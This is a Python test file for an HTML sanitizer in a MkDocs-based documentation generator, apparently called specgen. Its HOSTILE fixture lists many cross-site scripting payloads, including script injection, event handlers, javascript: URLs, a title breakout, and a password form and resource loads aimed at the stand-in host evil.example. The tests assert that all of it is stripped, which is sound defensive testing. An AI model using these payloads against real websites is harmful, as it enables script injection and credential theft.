"""Raw HTML in a workspace template never reaches the site; specgen's own pages come out unchanged.

Every test builds with the real specgen and MkDocs and reads the built HTML
with a real HTML parser.
"""

from __future__ import annotations

import json
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

import specgen
from specgen.site import sanitize

from .conftest import FIXTURES, REPO

#: A home page template that tries every way raw HTML can run script or call another host.
HOSTILE = """\
---
title: "</title><script>window.__pwned='meta'; alert('meta')</script>"
description: 'x" onfocus="alert(3)" autofocus="'
author: '"><script>alert(4)</script>'
template: 404.html
---
# <img src=x onerror=alert(1)> Home { onclick="alert(7)" }

<script>alert(1)</script>
<script src="http://evil.example/x.js"></script>
<img src="http://evil.example/beacon.png"> <img src="//evil.example/b.png"> <img src="/\\evil.example/c.png">
<img src="data:image/png;base64,AAAA"> <img src="HTTPS://evil.example/d.png">

## Click me { onclick="alert(2)" #__config }

[js](javascript:alert(1)) <a href="JaVaScRiPt:alert(8)">j2</a> <a href="https://ok.example" onmouseover="alert(5)">x</a>
<b onmouseover="alert(9)">bold</b> <span style="background:url(http://evil.example/s.png)">styled</span>

<iframe src="http://evil.example/"></iframe><object data="http://evil.example/x.swf"></object>
<embed src="http://evil.example/e"><video poster="http://evil.example/p.png"></video>
<style>body{background:url(http://evil.example/s.png)}</style><link rel="stylesheet" href="http://evil.example/s.css">
<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">
<form action="http://evil.example/"><input name="password" type="password"><button formaction="http://evil.example/">Go</button></form>
<svg><image href="http://evil.example/i.png"/><a href="javascript:alert(6)"><text>x</text></a>
<animate attributeName="href" values="javascript:alert(1)"/></svg>
<math><mi xlink:href="javascript:alert(1)">m</mi></math>
<div id="__config">{"search": "worker.js"}</div>
<!-- <img src="http://evil.example/comment.png"> -->

| Right | Centre |
|--:|:-:|
| 1 | 2 |
"""

#: The allowed Markdown a template may use, which must survive: anchors, links to anchors, admonitions, tables.
FRIENDLY = """\
# Home

See [FEAT-1.R1](features/FEAT-1.md#feat-1-r1) and [the web](https://example.com) or [mail](mailto:a@example.com).

## Local picture { #pictures .wide }

![A logo](assets/logo.png "The logo")

!!! warning "Careful"
    Admonition text with `code`.

| Right | Centre |
|--:|:-:|
| 1 | 2 |
"""


class _Elements(HTMLParser):
    """Every element of a page as (tag, attributes), and the text inside each ``<script>`` and ``<title>``."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        #: The tags inside the page's ``<article>``: what the templates made.
        self.content: list[str] = []
        self.scripts: list[str] = []
        self.titles: list[str] = []
        self._inside: str | None = None
        self._article = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if self._article:
            self.content.append(tag)
        self._article += tag == "article"
        self._inside = tag if tag in ("script", "title") else None

    def handle_data(self, data: str) -> None:
        if self._inside == "script":
            self.scripts.append(data)
        elif self._inside == "title":
            self.titles.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._inside = None
        self._article -= tag == "article"


def elements(page: Path) -> _Elements:
    parser = _Elements()
    parser.feed(page.read_text(encoding="utf-8"))
    return parser


def workspace(tmp_path: Path, home: str, *, name: str = "ws") -> Path:
    folder = tmp_path / name
    shutil.copytree(FIXTURES / "valid" / "basic", folder, ignore=shutil.ignore_patterns("site"))
    (folder / "templates").mkdir()
    (folder / "templates/home.md.j2").write_text(home, encoding="utf-8")
    return folder


def assert_nothing_hostile(site: Path) -> None:
    """No page of ``site`` runs script from a template, calls another host, or takes the theme's ids."""
    pages = sorted(site.rglob("*.html"))
    assert pages
    for page in pages:
        found = elements(page)
        where = page.relative_to(site).as_posix()
        for tag, attrs in found.elements:
            assert not any(name.startswith("on") for name in attrs), (where, tag, attrs)
            assert not (tag == "meta" and "http-equiv" in attrs), where
            for name, value in attrs.items():
                text = (value or "").lower()
                assert "evil.example" not in text and not text.startswith("javascript:"), (where, tag, name, value)
            if tag in ("img", "script") and "src" in attrs:
                assert sanitize.relative_url(attrs["src"] or ""), (where, tag, attrs)
            assert "autofocus" not in attrs, where
            assert tag != "input" or attrs.get("name") != "password", where
        refused = {"script", "iframe", "object", "embed", "form", "input", "video", "base", "math", "image", "animate"}
        assert not {*refused, "style", "link", "meta"} & set(found.content), (where, found.content)
        assert not any("alert(" in script or "__pwned" in script for script in found.scripts), where
        # A title that broke out of <title> would have made a script above; inside it, markup is only text.
        assert all("__pwned" not in title or title.startswith("</title><script>") for title in found.titles), where
        ids = [attrs.get("id") for _, attrs in found.elements]
        assert ids.count("__config") <= 1, where  # only the theme's own
    index = (site / "search/search_index.json").read_text(encoding="utf-8")
    for text in ("evil.example", "<script", "<img", "__pwned", "onclick", "onmouseover"):
        assert text not in index, text


def test_hostile_template_reaches_no_page(tmp_path: Path) -> None:
    ws = workspace(tmp_path, HOSTILE)
    result = specgen.build(ws)
    assert result.success, [str(d) for d in result.diagnostics]
    assert_nothing_hostile(ws / "site")
    home = (ws / "site/index.html").read_text(encoding="utf-8")
    # What is left is harmless: the text, the heading, the table's alignment, and the title shown literally.
    assert "Click me" in home and "bold" in home and "styled" in home
    assert '<th style="text-align: right;">Right</th>' in home
    assert "&lt;/title&gt;&lt;script&gt;" in home


def test_trusted_mkdocs_config_is_sanitized_too(tmp_path: Path) -> None:
    """Trusting mkdocs.yml (hooks, plugins) is not trusting the templates a pull request changes."""
    ws = workspace(tmp_path, HOSTILE)
    result = specgen.build(ws, trust_mkdocs_config=True)
    assert result.success, [str(d) for d in result.diagnostics]
    assert_nothing_hostile(ws / "site")


def test_anchors_links_admonitions_and_tables_survive(tmp_path: Path) -> None:
    ws = workspace(tmp_path, FRIENDLY)
    result = specgen.build(ws)
    assert result.success, [str(d) for d in result.diagnostics]
    # MkDocs checks that each link's anchor exists (validation.links.anchors: warn): no id was lost.
    assert not [d for d in result.diagnostics if "anchor" in d.message], [str(d) for d in result.diagnostics]
    home = elements(ws / "site/index.html")
    for tag, attrs in (
        ("a", {"href": "features/FEAT-1/#feat-1-r1"}),
        ("a", {"href": "https://example.com"}),
        ("a", {"href": "mailto:a@example.com"}),
        ("h2", {"id": "pictures", "class": "wide"}),
        ("a", {"class": "headerlink", "href": "#pictures", "title": "Permanent link"}),
        ("a", {"class": "md-nav__link", "href": "#pictures"}),  # the toc still links to the heading
        ("img", {"alt": "A logo", "src": "assets/logo.png", "title": "The logo"}),
        ("div", {"class": "admonition warning"}),
        ("p", {"class": "admonition-title"}),
        ("th", {"style": "text-align: right;"}),
        ("td", {"style": "text-align: center;"}),
    ):
        assert (tag, attrs) in home.elements, (tag, attrs)
    feature = elements(ws / "site/features/FEAT-1/index.html")
    assert "feat-1-r1" in {attrs.get("id") for _, attrs in feature.elements}


@pytest.mark.parametrize(
    ("url", "relative"),
    [
        ("logo.png", True),
        ("../assets/logo.png", True),
        ("/static/logo.png", True),
        ("a/b:c.png", True),
        ("#top", True),
        ("http://host/x.png", False),
        ("HTTPS://host/x.png", False),
        ("//host/x.png", False),
        ("/\\host/x.png", False),
        ("\\\\host/x.png", False),
        ("data:image/png;base64,AAAA", False),
        ("javascript:alert(1)", False),
        (" //host/x.png", False),
        ("/\t/host/x.png", False),
    ],
)
def test_relative_url(url: str, relative: bool) -> None:
    assert sanitize.relative_url(url) is relative


class _Tree(HTMLParser):
    """A page as a list of parse events, so that two serializations of the same DOM compare equal."""

    VOID = frozenset({"br", "hr", "img", "input", "meta", "link", "area", "base", "col", "embed", "source", "wbr"})

    def __init__(self) -> None:
        super().__init__()
        self.events: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.events.append(("start", tag, *sorted(f"{k}={v or ''}" for k, v in attrs)))

    def handle_endtag(self, tag: str) -> None:
        if tag not in self.VOID:
            self.events.append(("end", tag))

    def handle_data(self, data: str) -> None:
        if self.events and self.events[-1][0] == "text":
            self.events[-1] = ("text", self.events[-1][1] + data)
        else:
            self.events.append(("text", data))


def _dom(path: Path) -> list[tuple[str, ...]]:
    tree = _Tree()
    tree.feed(path.read_text(encoding="utf-8"))
    tree.close()
    return tree.events


def _built(workspace: Path, site: Path) -> dict[str, str]:
    result = specgen.build(workspace, site_dir=site, strict=True)
    assert result.success, [str(d) for d in result.diagnostics]
    return {p.relative_to(site).as_posix(): p.read_text(encoding="utf-8") for p in sorted(site.rglob("*.html"))}


@pytest.mark.parametrize("source", ["basic", "repository"])
def test_packaged_pages_are_unchanged(source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The allowlist fits specgen's pages: every page's DOM and the search index are the same without it."""
    ws = FIXTURES / "valid" / "basic" if source == "basic" else REPO
    sanitized = _built(ws, tmp_path / "sanitized")
    with monkeypatch.context() as patch:
        patch.setattr(sanitize, "clean_html", lambda page_html: page_html)
        patch.setattr(sanitize, "clean_meta", lambda meta: meta)
        patch.setattr(sanitize, "_clean_toc", lambda items: None)
        raw = _built(ws, tmp_path / "raw")
    assert sanitized.keys() == raw.keys()
    # The switch took effect: the serializations differ (nh3 writes <br>, not <br />, and decodes &#42;) ...
    assert sanitized != raw
    # ... but not what a browser builds from them.
    for name in sanitized:
        assert _dom(tmp_path / "sanitized" / name) == _dom(tmp_path / "raw" / name), name
    index = [
        json.loads((tmp_path / folder / "search/search_index.json").read_text()) for folder in ("sanitized", "raw")
    ]
    assert index[0] == index[1]


def test_a_title_outside_a_picture_is_dropped_with_its_content() -> None:
    from specgen.site.sanitize import clean_html

    page = (
        '<div><title id="x">hidden words</title><p>a</p></div>'
        '<svg xmlns="http://www.w3.org/2000/svg" role="img"><title id="t">A picture&#39;s name</title></svg>'
        "<title>&lt;img src=x&gt;</title>"
    )
    cleaned = clean_html(page)
    assert "hidden words" not in cleaned and "&lt;img" not in cleaned
    assert '<title id="t">A picture' in cleaned  # an SVG picture keeps its accessible name
